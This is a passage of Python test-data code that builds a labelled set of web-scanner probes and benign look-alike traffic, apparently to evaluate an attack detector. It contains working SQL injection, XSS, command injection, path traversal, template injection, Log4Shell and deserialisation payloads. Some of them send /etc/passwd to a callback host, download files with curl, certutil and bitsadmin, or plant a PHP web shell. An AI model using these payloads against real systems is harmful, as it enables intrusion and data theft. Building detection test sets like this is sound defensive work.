"""Blind set "sixtyfifth": what an automated web vulnerability scanner (DAST) sends when it audits every input it
finds, and the benign traffic that carries the same words.

The angle. A scanner does not know the application: for every input (query and form parameters, JSON keys,
cookies, the User-Agent, Referer and X-Forwarded-For headers, an API header, a parameter name, the URL path) it
sends short probes per vulnerability class and watches for errors, reflections, delays or out-of-band callbacks
to a host it controls (here oob65.scan-callback.example and 203.0.113.65). Each probe carries a unique numeric
marker (65NNN) so a reflection or a callback can be traced back to the input that produced it. Many probes are
appended to an ordinary value, a number (`42 ...`) or a string whose quote they close first (`alice' ...`).

Families and sub-families (one sub-family per probe kind):
- sqli: sqli-error-syntax (bare syntax breakers), sqli-error-mysql / -mssql / -postgres / -oracle / -sqlite
  (error-based extraction), sqli-boolean (true/false pairs), sqli-time-mysql / -postgres / -mssql / -oracle /
  -sqlite, sqli-union (NULL column-count walk), sqli-orderby (ORDER BY / GROUP BY column-count walk),
  sqli-oob-mssql / -mysql / -oracle / -postgres (DNS/HTTP callbacks), sqli-stacked.
- xss: xss-reflect-marker, xss-tag, xss-attr, xss-js-string, xss-url, xss-polyglot (own polyglots),
  xss-encoded.
- rce: rce-time-unix and rce-oob-unix after each separator (; | || & && newline, backticks, $()) with and
  without a quote closed first, rce-output-unix, rce-time-windows, rce-oob-windows, rce-output-windows.
- lfi: lfi-traversal-unix and lfi-traversal-windows at depths 1-10, lfi-encoded, lfi-absolute.
- rfi: rfi-callback (callback URLs with ?, #, %00 and no suffix).
- php: php-eval-echo, php-eval-arith, php-phpinfo, php-eval-time, php-wrapper.
- ssti: ssti-arith (arithmetic in each template syntax), then fingerprinting: ssti-jinja2, ssti-twig,
  ssti-freemarker, ssti-velocity, ssti-erb, ssti-node, ssti-python-other, ssti-smarty, ssti-error.
- java: java-jndi (Log4Shell callbacks, in every header, and in one request spraying them all), java-el,
  java-spel, java-ognl, java-deser (serialisation markers and gadget JSON/XML/YAML), java-classloader.
- generic: ssrf-metadata, ssrf-metadata-notation, ssrf-loopback, ssrf-loopback-notation, ssrf-oob,
  ssrf-scheme, pollution-query, pollution-json, nodejs-eval.

Placements. Every probe is sent twice: once into one of our real routes, rotating over query (/api/users),
form (/admin/users/search with csrf_token), json (/api/users), cookie, header:User-Agent, header:Referer,
header:X-Forwarded-For, header:X-Api-Version, param-name and path (/api/users/<probe>); and once the way a
scanner hits an unknown site, on paths that are not our routes (/, /index.php, /search, /login, /api/v1/items,
/cgi-bin/test.cgi) with its own parameter names (q, id, page, file, url, name), as rs-query, rs-form, rs-json,
rs-cookie or rs-header:<name>. Log4Shell probes go a third time into one request that carries the probe in
every header (header:many). Probes that are already URL-encoded on the wire (lfi-encoded, %00 suffixes, ...)
keep their percent escapes in URIs and form bodies; payloads with a newline are never put in a header.

Benign half: Slack messages and bios by developers and operators talking about the same things (SQL,
sleep and ping, templates, Log4j, metadata services, traversal bugs), documentation links, admin searches,
names and addresses with apostrophes, site searches on the same unknown paths, and ordinary browser headers
and cookies.

Authorship and independence: written from general knowledge of how scanners probe and from the brief's titles
alone; no rule, ruleset test, public payload list or other blind set was read. Measured once on unchanged code;
the payloads were not changed after seeing the result. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import base64
import gzip
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "sixtyfifth"
CB = "oob65.scan-callback.example"   # the scanner's callback host
CB_IP = "203.0.113.65"

Probe = tuple[str, str, str, bool]   # category, sub-family, payload, already URL-encoded on the wire


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# ---------------------------------------------------------------- sqli
SQLI_ERROR_SYNTAX = [
    "'", "\"", "42'", "alice'", "42\"", "alice\"", "alice')", "42')", "alice'\"`", "alice\\", "42'))-- -",
    "alice'||'", "alice' '", "42'\"", "alice\\'", "42)", "alice''''",
]
SQLI_ERROR = {
    "sqli-error-mysql": [
        "42 AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))",
        "alice' AND updatexml(1,concat(0x7e,user(),0x7e),1)-- -",
        "alice' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)y)-- -",
        "42 AND EXP(~(SELECT * FROM (SELECT user())a))",
        "alice' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,@@version)) USING utf8)))-- -",
        "42 OR GTID_SUBSET(CONCAT(0x7e,(SELECT database())),1)",
        "alice\" AND extractvalue(rand(),concat(0x3a,(SELECT schema_name FROM information_schema.schemata "
        "LIMIT 1)))#",
    ],
    "sqli-error-mssql": [
        "42 AND 1=CONVERT(int,@@version)",
        "alice' AND 1=CONVERT(int,(SELECT DB_NAME()))--",
        "alice'+CAST(@@version AS int)+'",
        "42 AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')",
        "alice' HAVING 1=1--",
        "alice' GROUP BY users.id HAVING 1=1--",
        "42 AND 1 IN (SELECT SYSTEM_USER)",
    ],
    "sqli-error-postgres": [
        "42 AND 1=CAST(version() AS int)",
        "alice' AND 1=CAST((SELECT current_user) AS numeric)--",
        "alice'||CAST(current_database() AS int)||'",
        "42 AND 1=(SELECT version())::int",
        "alice' AND 1=cast(chr(126)||(SELECT usename FROM pg_user LIMIT 1) as int)--",
    ],
    "sqli-error-oracle": [
        "42 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))",
        "alice' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))--",
        "42 AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)",
        "alice' AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT banner FROM v$version WHERE rownum=1))--",
        "alice'||(SELECT ora_database_name FROM dual)||'",
    ],
    "sqli-error-sqlite": [
        "42 AND load_extension('sc65')",
        "alice' AND 1=abs(-9223372036854775808)--",
        "alice' AND sqlite_version()=1 AND '1'='1",
    ],
}
SQLI_BOOLEAN = [
    ("42 AND 1=1", "42 AND 1=2"),
    ("42 AND 65=65", "42 AND 65=66"),
    ("alice' AND '65'='65", "alice' AND '65'='66"),
    ("alice' AND 1=1-- -", "alice' AND 1=2-- -"),
    ("alice\" AND \"a\"=\"a", "alice\" AND \"a\"=\"b"),
    ("42) AND (1=1", "42) AND (1=2"),
    ("alice') AND ('x'='x", "alice') AND ('x'='y"),
    ("42 OR 1=1-- -", "42 OR 1=2-- -"),
    ("alice' OR 'a'='a", "alice' OR 'a'='b"),
    ("42 AND 3*2=6", "42 AND 3*2=7"),
    ("42 AND 1 LIKE 1", "42 AND 1 LIKE 2"),
    ("alice' AND ASCII(SUBSTR((SELECT user()),1,1))>64-- -", "alice' AND ASCII(SUBSTR((SELECT user()),1,1))>255-- -"),
    ("42 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
     "42 AND (SELECT COUNT(*) FROM information_schema.tables)<0"),
    ("alice' AND LENGTH(database())>0-- -", "alice' AND LENGTH(database())<0-- -"),
    ("42 AND TRUE", "42 AND FALSE"),
    ("alice' AND 'sc65'||''='sc65", "alice' AND 'sc65'||''='sc66"),
    ("alice' AND 'a'+'b'='ab'--", "alice' AND 'a'+'b'='ba'--"),
    ("42/**/AND/**/1=1", "42/**/AND/**/1=2"),
]
SQLI_TIME = {
    "sqli-time-mysql": [
        "42 AND SLEEP(5)", "42 AND SLEEP(5)-- -", "alice' AND SLEEP(5)-- -", "alice' AND SLEEP(5) AND '1'='1",
        "alice' OR SLEEP(5)#", "42 AND (SELECT 65 FROM (SELECT SLEEP(5))x)",
        "alice'XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR'Z", "42 AND IF(1=1,SLEEP(5),0)", "alice'-SLEEP(5)-'",
        "42 AND BENCHMARK(5000000,SHA1(65))", "alice\" AND SLEEP(5)-- -", "42) AND SLEEP(5) AND (1=1",
        "alice' AND (SELECT SLEEP(5) FROM dual WHERE 1=1)-- -",
    ],
    "sqli-time-postgres": [
        "42; SELECT pg_sleep(5)--", "alice'; SELECT pg_sleep(5)--", "42 AND 65=(SELECT 65 FROM pg_sleep(5))",
        "alice' AND 65=(SELECT 65 FROM PG_SLEEP(5))--", "alice'||pg_sleep(5)||'",
        "42 AND (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL",
        "42);SELECT PG_SLEEP(5)--", "alice' OR 1=(SELECT COUNT(*) FROM generate_series(1,50000000))--",
    ],
    "sqli-time-mssql": [
        "42; WAITFOR DELAY '0:0:5'--", "alice'; WAITFOR DELAY '0:0:5'--", "42 WAITFOR DELAY '00:00:05'",
        "alice' WAITFOR DELAY '0:0:5'--", "alice'); WAITFOR DELAY '0:0:5'--",
        "42; IF (1=1) WAITFOR DELAY '0:0:5'--", "alice';waitfor delay'0:0:5'--", "42);WAITFOR DELAY '0:0:5'--",
    ],
    "sqli-time-oracle": [
        "42 AND 65=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)", "alice' AND 65=DBMS_PIPE.RECEIVE_MESSAGE('sc',5)--",
        "alice'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98),5)||'",
        "42 AND 1=(SELECT COUNT(*) FROM ALL_USERS A, ALL_USERS B, ALL_USERS C, ALL_USERS D)",
        "alice'; BEGIN DBMS_LOCK.SLEEP(5); END;--", "42 OR 1=DBMS_PIPE.RECEIVE_MESSAGE(('x'),5)",
        "alice' AND 1=(CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('a',5) ELSE 1 END)--",
    ],
    "sqli-time-sqlite": [
        "42 AND 65=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
        "alice' AND 65=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
        "alice'||randomblob(1000000000)||'",
        "42 AND 1=(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 5000000) "
        "SELECT COUNT(*) FROM c)",
        "alice' AND 1=randomblob(900000000)--",
    ],
}


def _union() -> list[str]:
    out = []
    for cols in range(1, 11):
        nulls = ",".join(["NULL"] * cols)
        out.append(f"42 UNION ALL SELECT {nulls}-- -" if cols % 2 else f"alice' UNION SELECT {nulls}-- -")
    out += [
        "alice' UNION ALL SELECT 'sc65{M}',NULL,NULL#",
        "-42 UNION SELECT 1,2,3,4,5",
        "42 UNION SELECT NULL FROM dual--",
        "alice') UNION SELECT NULL,NULL-- -",
        "42 UNION/**/SELECT/**/NULL,NULL,NULL",
        "alice\" UNION SELECT CHAR(115,99,54,53),NULL-- -",
    ]
    return out


SQLI_ORDERBY = [
    "42 ORDER BY 1-- -", "42 ORDER BY 2", "alice' ORDER BY 3-- -", "alice' ORDER BY 5#", "42 ORDER BY 10-- -",
    "alice' ORDER BY 20-- -", "42 ORDER BY 100", "alice' ORDER BY 1000-- -", "alice') ORDER BY 4-- -",
    "42 GROUP BY 1,2,3-- -", "alice' GROUP BY 5-- -", "name,(CASE WHEN (1=1) THEN name ELSE email END)",
]
SQLI_OOB = {
    "sqli-oob-mssql": [
        "42; EXEC master..xp_dirtree '\\\\{M}.{CB}\\a'--",
        "alice'; EXEC master.dbo.xp_fileexist '\\\\{M}.{CB}\\x'--",
        "alice'; DECLARE @q varchar(99);SET @q='\\\\'+DB_NAME()+'.{CB}\\a'; EXEC master..xp_dirtree @q--",
    ],
    "sqli-oob-mysql": [
        "alice' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT version()),'.{CB}\\\\a'))-- -",
        "42 AND (SELECT LOAD_FILE('\\\\\\\\{M}.{CB}\\\\x'))",
        "alice' UNION SELECT 1 INTO OUTFILE '\\\\\\\\{CB}\\\\share\\\\{M}'-- -",
    ],
    "sqli-oob-oracle": [
        "alice' AND 1=UTL_INADDR.GET_HOST_ADDRESS('{M}.{CB}')--",
        "42 AND 1=UTL_HTTP.REQUEST('http://{CB}/{M}')",
        "alice' AND (SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
        "\"http://{CB}/{M}\"> %x;]>'),'/l') FROM dual) IS NULL--",
        "42 AND 1=DBMS_LDAP.INIT('{M}.{CB}',80)",
    ],
    "sqli-oob-postgres": [
        "alice'; COPY (SELECT '') TO PROGRAM 'nslookup {M}.{CB}'--",
        "42; SELECT dblink_connect('host={M}.{CB} user=a dbname=b')--",
        "alice';CREATE TEMP TABLE t65(x text);COPY t65 FROM PROGRAM 'curl http://{CB}/{M}'--",
    ],
}
SQLI_STACKED = [
    "42; SELECT 65--", "alice'; SELECT 1;--",
    "42; DECLARE @s varchar(8000); SET @s=0x73656c65637420363521; EXEC(@s)--",
    "alice'; EXEC xp_cmdshell 'ping -n 5 127.0.0.1'--", "alice'; UPDATE users SET name='sc65' WHERE 1=0--",
    "42;INSERT INTO sc65 VALUES(1)--", "alice';SET @a=65;SELECT @a;--",
    "42; EXEC sp_configure 'show advanced options',1;RECONFIGURE--", "alice'; CREATE TABLE sc65(x int)--",
    "42;DROP TABLE IF EXISTS sc65_probe--",
]

# ---------------------------------------------------------------- xss
XSS = {
    "xss-reflect-marker": [
        "sc65{M}'\"<>", "sc65{M}<sc65{M}>", "\"><sc65{M}>", "'><sc65{M} x=1>", "</sc65{M}><sc65{M}/",
        "sc65{M}\"><b>{M}</b>",
    ],
    "xss-tag": [
        "<script>alert({M})</script>", "<ScRiPt>prompt({M})</sCrIpT>", "<img src=x onerror=alert({M})>",
        "<svg onload=alert({M})>", "<svg/onload=confirm({M})>", "<body onload=alert({M})>",
        "<iframe src=\"javascript:alert({M})\"></iframe>", "<details open ontoggle=alert({M})>",
        "<video><source onerror=alert({M})></video>", "<input autofocus onfocus=alert({M})>",
        "<marquee onstart=alert({M})>", "<a href=javascript:alert({M})>x</a>",
        "<object data=\"javascript:alert({M})\">", "<embed src=\"data:text/html,<script>alert({M})</script>\">",
        "<script src=//{CB}/{M}.js></script>", "<select autofocus onfocus=alert({M})>",
        "<textarea onfocus=alert({M}) autofocus>", "<audio src=x onerror=alert({M})>",
        "<form><button formaction=javascript:alert({M})>x</button></form>",
        "<svg><animate onbegin=alert({M}) attributeName=x dur=1s>", "<sc65 onclick=alert({M})>click</sc65>",
        "<img src=x onerror=fetch('//{CB}/'+document.cookie)>",
    ],
    "xss-attr": [
        "\" onmouseover=\"alert({M})", "' onfocus='alert({M})' autofocus='", "\" autofocus onfocus=alert({M}) x=\"",
        "\"><img src=x onerror=alert({M})>", "'><svg onload=alert({M})>",
        "\" style=\"animation-name:x\" onanimationstart=\"alert({M})", "\" onpointerover=alert({M}) \"",
        "x\" onerror=\"alert({M})", "\"/><script>alert({M})</script>", "' accesskey='x' onclick='alert({M})'",
    ],
    "xss-js-string": [
        "';alert({M});//", "\";alert({M});//", "'-alert({M})-'", "\"-confirm({M})-\"", "\\';alert({M});//",
        "</script><script>alert({M})</script>", "`-alert({M})-`", "${alert({M})}", "';}alert({M});{'",
        "');alert({M});//", "\"+alert({M})+\"", "'}};alert({M});//",
    ],
    "xss-url": [
        "javascript:alert({M})", "JaVaScRiPt:alert({M})", "javascript://%0aalert({M})", " javascript:alert({M})",
        "java\tscript:alert({M})", "data:text/html;base64," + _b64("<script>alert(65)</script>"),
        "data:text/html,<script>alert({M})</script>", "vbscript:msgbox({M})", "javascript:/*sc65*/alert({M})",
        "&#106;avascript:alert({M})", "javascript&colon;alert({M})",
    ],
    "xss-polyglot": [
        "'\"/></textarea></title></style></script>--><svg onload=alert({M})>",
        "javascript:/*'/*\"/*`/*--></style></script><svg/onload=alert({M})//>",
        "\"'--></noscript></template><img src=x onerror=alert({M})>",
        "'\";alert({M})//\"></script><img src=1 onerror=alert({M})>",
        "-->'\"><details/open/ontoggle=confirm({M})>",
        "</xmp></noembed><svg onload=prompt({M})>",
        "{{'\"`--></textarea><script>alert({M})</script>",
    ],
}
XSS_ENCODED = [
    "%3Cscript%3Ealert({M})%3C%2Fscript%3E", "%253Csvg%2520onload%253Dalert({M})%253E",
    "%22%3E%3Csvg%20onload%3Dalert({M})%3E", "%3Cimg%20src%3Dx%20onerror%3Dalert%28{M}%29%3E",
]
XSS_EVASION = ["<scr<script>ipt>alert({M})</scr</script>ipt>", "+ADw-script+AD4-alert({M})+ADw-/script+AD4-"]

# ---------------------------------------------------------------- rce
UNIX_SEPS = [(";", ";"), ("|", ""), ("||", "||"), ("&", "&"), ("&&", ""), ("\n", "\n"), ("`", "`"), ("$(", ")")]
RCE_BASES = ["42", "alice'", "alice\""]
OOB_UNIX = ["nslookup {M}.{CB}", "curl http://{CB}/{M}", "wget -q -O- http://{CB}/{M}", "ping -c 1 {M}.{CB}",
            "dig {M}.{CB}", "host {M}.{CB}"]


def _after(base: str, sep: str, end: str, cmd: str) -> str:
    """`cmd` after a separator; a quote the base opened is closed first and reopened after."""
    tail = base[-1] if base[-1] in "'\"" else ""
    return f"{base}{sep}{cmd}{end}{tail}"


def _rce_unix() -> list[tuple[str, str]]:
    out = []
    for base in RCE_BASES:
        for sep, end in UNIX_SEPS:
            out.append(("rce-time-unix", _after(base, sep, end, "sleep 5")))
    out += [("rce-time-unix", p) for p in [
        ";ping -c 6 127.0.0.1;", "|ping -c 6 127.0.0.1", "alice';ping -c 6 127.0.0.1;'", "$(ping -c 6 127.0.0.1)",
        ";sleep${IFS}5;", "|sleep${IFS}5", "42;sleep 5 #", "alice\";sleep 5;#",
    ]]
    for i, (sep, end) in enumerate(UNIX_SEPS):
        for k in range(2):
            base = RCE_BASES[(i + k) % len(RCE_BASES)]
            out.append(("rce-oob-unix", _after(base, sep, end, OOB_UNIX[(2 * i + k) % len(OOB_UNIX)])))
    out += [("rce-oob-unix", p) for p in [
        ";nslookup $(whoami).{CB};", "`curl http://{CB}/$(id|base64)`", "|curl -d @/etc/passwd http://{CB}/{M}",
        "$(dig +short $(hostname).{CB})",
    ]]
    out += [("rce-output-unix", p) for p in [
        ";id", "|id", "&& cat /etc/passwd", "`echo sc65{M}`", "$(echo sc65$((65*1337)))", ";echo sc65{M};",
        "|uname -a", "||cat /etc/hosts", "alice';id;'", "\nid\n", "42|echo sc65{M}", "alice\";cat /etc/passwd;\"",
    ]]
    return out


WIN_SEPS = ["&", "&&", "|", "||"]
WIN_TIME = ["ping -n 6 127.0.0.1", "timeout /T 5", "powershell -c Start-Sleep -s 5"]


def _rce_windows() -> list[tuple[str, str]]:
    out = []
    for i, sep in enumerate(WIN_SEPS):
        for k, cmd in enumerate(WIN_TIME):
            base = ["42", "alice\""][(i + k) % 2]
            out.append(("rce-time-windows", _after(base, f" {sep} ", " & " if sep == "&" else "", cmd)))
    out += [("rce-time-windows", p) for p in [
        "\" & ping -n 6 127.0.0.1 & \"", "42 & waitfor /t 5 sc65 &", "alice' & powershell Start-Sleep 5 & '",
        "|ping -n 6 127.0.0.1|",
    ]]
    out += [("rce-oob-windows", p) for p in [
        "& nslookup {M}.{CB} &", "| nslookup {M}.{CB}", "&& certutil -urlcache -split -f http://{CB}/{M} x.txt",
        "|| powershell -c \"Invoke-WebRequest http://{CB}/{M}\"", "& curl.exe http://{CB}/{M} &",
        "alice\" & nslookup %USERNAME%.{CB} & \"", "| ping -n 1 {M}.{CB}",
        "& bitsadmin /transfer sc65 http://{CB}/{M} %TEMP%\\sc65.txt &",
        "&& powershell -enc " + base64.b64encode("iwr http://oob65.scan-callback.example/w".encode(
            "utf-16-le")).decode(),
        "42 | mshta http://{CB}/{M}.hta",
    ]]
    out += [("rce-output-windows", p) for p in [
        "& type C:\\Windows\\win.ini", "| dir C:\\", "&& whoami", "|| ver", "& set &", "alice\" & echo sc65{M} & \"",
        "42 & type %SYSTEMROOT%\\win.ini",
    ]]
    return out


# ---------------------------------------------------------------- lfi / rfi
def _lfi() -> list[tuple[str, str, bool]]:
    out: list[tuple[str, str, bool]] = []
    for d in range(1, 11):
        out.append(("lfi-traversal-unix", "../" * d + "etc/passwd", False))
    out += [("lfi-traversal-unix", "../" * 3 + "etc/hosts", False),
            ("lfi-traversal-unix", "../" * 6 + "proc/self/environ", False),
            ("lfi-traversal-unix", "../" * 9 + "etc/shadow", False),
            ("lfi-traversal-unix", "images/" + "../" * 4 + "etc/passwd", False)]
    for d in range(1, 11):
        out.append(("lfi-traversal-windows", "..\\" * d + "windows\\win.ini", False))
    out += [("lfi-traversal-windows", "../" * 4 + "windows/win.ini", False),
            ("lfi-traversal-windows", "../" * 8 + "windows/system32/drivers/etc/hosts", False),
            ("lfi-traversal-windows", "..\\" * 6 + "boot.ini", False)]
    enc = [
        "%2e%2e%2f" * 4 + "etc%2fpasswd", "..%2f" * 6 + "etc/passwd", "%2e%2e/" * 5 + "etc/passwd",
        "%252e%252e%252f" * 5 + "etc/passwd", "..%c0%af" * 6 + "etc/passwd", "....//" * 5 + "etc/passwd",
        "..%5c" * 5 + "windows%5cwin.ini", "%2e%2e%5c" * 6 + "boot.ini", "..%255c" * 7 + "windows/win.ini",
        "../" * 6 + "etc/passwd%00", "../" * 7 + "etc/passwd%00.png", "..;/" * 5 + "etc/passwd",
        "%c0%ae%c0%ae/" * 6 + "etc/passwd", "..%u2215" * 4 + "etc/passwd", "....\\\\" * 5 + "windows\\win.ini",
    ]
    out += [("lfi-encoded", p, True) for p in enc]
    out += [("lfi-absolute", p, False) for p in [
        "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/cmdline", "C:\\Windows\\win.ini",
        "c:/windows/system32/drivers/etc/hosts", "C:\\boot.ini", "file:///etc/passwd",
        "\\\\localhost\\c$\\windows\\win.ini", "/var/log/apache2/access.log", "/etc/passwd%00",
        "../WEB-INF/web.xml", "/proc/self/fd/2",
    ]]
    return [(s, p, raw or "%00" in p) for s, p, raw in out]


def _rfi() -> list[str]:
    out = []
    hosts = ["http://{CB}/rfi{M}.txt", "https://{CB}/rfi{M}.txt", f"http://{CB_IP}/rfi{{M}}.txt",
             "ftp://{CB}/rfi{M}.txt"]
    for i, host in enumerate(hosts):
        for k, suffix in enumerate(["?", "#", "%00", ""]):
            if (i + k) % 4 != 3:
                out.append(host + suffix)
    out += ["\\\\{CB}\\share\\rfi{M}.php", "hTtP://{CB}/rfi{M}.php?", "http://{CB}/rfi{M}.txt?sc65=",
            "//{CB}/rfi{M}.txt?", "http://{CB}:8065/rfi{M}.jsp?"]
    return out


# ---------------------------------------------------------------- php
PHP = {
    "php-eval-echo": [
        "echo 'sc65{M}';", ";echo md5('sc65{M}');", "';echo md5('sc65{M}');$a='", "\";echo md5({M});//",
        "${@print(md5({M}))}", "{${print(md5({M}))}}", "print(md5({M}));", "<?php echo md5('sc65{M}'); ?>",
        "<?=md5({M})?>", "die(md5({M}))", "'.print(md5({M})).'", "\".print(md5({M})).\"",
        "assert('print(md5({M}))')", "1;printf('sc65%d',{M});",
    ],
    "php-eval-arith": [
        "print({M}*1337);", "${@print({M}*1337)}", "';print({M}*1337);//", "echo {M}*1337;",
        "{${print({M}*1337)}}", "\".({M}*1337).\"", "var_dump({M}*1337);",
    ],
    "php-phpinfo": [
        "phpinfo();", "${@phpinfo()}", "';phpinfo();//", "<?php phpinfo(); ?>", "{${phpinfo()}}", "\";phpinfo();//",
        "1);phpinfo();//", "call_user_func('phpinfo')",
    ],
    "php-eval-time": ["sleep(5);", "';sleep(5);//", "${@sleep(5)}", "usleep(5000000);", "\".sleep(5).\""],
    "php-wrapper": [
        "php://filter/convert.base64-encode/resource=index.php",
        "php://filter/read=string.rot13/resource=index.php",
        "php://filter/convert.base64-encode/resource=../config.php", "php://input",
        "data://text/plain;base64," + _b64("<?php echo md5(65); ?>"), "data:text/plain,<?php phpinfo();?>",
        "expect://id", "phar://./uploads/sc65.jpg/x", "zip://uploads/sc65.zip#x.php",
        "php://filter/convert.iconv.UTF8.UTF16/resource=/etc/passwd", "pHp://FilTer/convert.base64-encode/resource=index",
    ],
}

# ---------------------------------------------------------------- ssti
ARITH = "{M}*1337"
SSTI_ARITH = [
    "{{X}}", "${X}", "#{X}", "<%= X %>", "${{X}}", "{X}", "*{X}", "@(X)", "[[${X}]]", "{{=X}}", "#set($r=X)$r",
    "{php}echo X;{/php}", "<#assign r=X>${r}", "'}}{{X}}", "\"}}${X}",
]
SSTI = {
    "ssti-jinja2": [
        "{{7*'7'}}", "{{config.items()}}", "{{self.__init__.__globals__}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}", "{{request.application.__globals__.__builtins__}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
        "{{get_flashed_messages.__globals__}}",
    ],
    "ssti-twig": [
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
        "{{['id']|filter('system')}}", "{{dump(app)}}", "{{app.request.server.all|join(',')}}",
    ],
    "ssti-freemarker": [
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "${.version}",
        "${product.getClass().getProtectionDomain().getCodeSource()}",
    ],
    "ssti-velocity": [
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x",
        "$class.inspect('java.lang.System').type.getenv()",
    ],
    "ssti-erb": ["<%= `id` %>", "<%= system('id') %>", "<%= File.read('/etc/passwd') %>", "#{`id`}"],
    "ssti-node": [
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{{#with \"s\" as |string|}}{{#with string.split as |parts|}}{{lookup parts 'constructor'}}{{/with}}{{/with}}",
        "#{global.process.mainModule.require('child_process').execSync('id')}",
        "<%= process.mainModule.require('child_process').execSync('id') %>",
    ],
    "ssti-python-other": [
        "${self.module.cache.util.os.system('id')}", "<%import os%>${os.popen('id').read()}",
        "{% import os %}{{os.popen('id').read()}}",
    ],
    "ssti-smarty": [
        "{system('id')}", "{$smarty.version}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    ],
    "ssti-error": ["{{<%${#[%'\"}}%\\", "${{<%[%'\"}}%\\.", "{{sc65{M}"],
}

# ---------------------------------------------------------------- java
JNDI = [
    "${jndi:ldap://{CB}/{M}}", "${jndi:ldaps://{CB}/{M}}", "${jndi:rmi://{CB}/{M}}", "${jndi:dns://{CB}/{M}}",
    "${jndi:ldap://${hostName}.{M}.{CB}/a}", "${jndi:ldap://${env:USER}.{CB}/{M}}",
    "${${lower:j}ndi:${lower:l}dap://{CB}/{M}}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://{CB}/{M}}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//{CB}/{M}}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://{CB}/{M}}", "${j${upper:n}di:ldap://{CB}/{M}}",
    "${${date:'j'}ndi:ldap://{CB}/{M}}", "${jndi:ldap://127.0.0.1#{CB}:1389/{M}}", "${jndi:nis://{CB}/{M}}",
    "${jndi:http://{CB}/{M}}", "${jndi:ldap://" + CB_IP + ":1389/{M}}",
]
JAVA = {
    "java-el": [
        "${applicationScope}", "${pageContext.request.serverName}", "#{facesContext.externalContext}",
        "${''.getClass().forName('java.lang.Runtime').getMethods()}", "${sessionScope}",
        "#{request.getClass().getClassLoader()}",
    ],
    "java-spel": [
        "${T(java.lang.Runtime).getRuntime().exec('nslookup {M}.{CB}')}",
        "#{T(java.lang.System).getProperty('user.dir')}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "#{new java.lang.ProcessBuilder('id').start()}",
    ],
    "java-ognl": [
        "%{{M}*1337}", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Sc65',{M}*1337)}",
        "${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#r=@java.lang.Runtime@getRuntime().exec('id'))}",
        "(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false)(#_memberAccess[\"allowStaticMethodAccess\"]=true)",
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#os=@java.lang.System@getProperty('os.name'))}",
        "${#_memberAccess.excludedClasses.clear()}",
        "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}", "%{@java.lang.Thread@sleep(5000)}",
    ],
    "java-classloader": [
        "class.module.classLoader.DefaultAssertionStatus=true", "class.module.classLoader.URLs[0]=0",
        "class.classLoader.resources.dirContext.docBase=sc65",
    ],
}


def _serialized() -> list[str]:
    """Java serialisation markers: a stream's header and a class descriptor, as base64, hex and gzip+base64."""
    stream = b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size"
    return [base64.b64encode(stream).decode(), stream.hex(), base64.b64encode(gzip.compress(stream, mtime=0)).decode()]


JAVA_DESER = _serialized() + [
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://{CB}/{M}\",\"autoCommit\":true}",
    "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://{CB}/{M}\"}]",
    "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
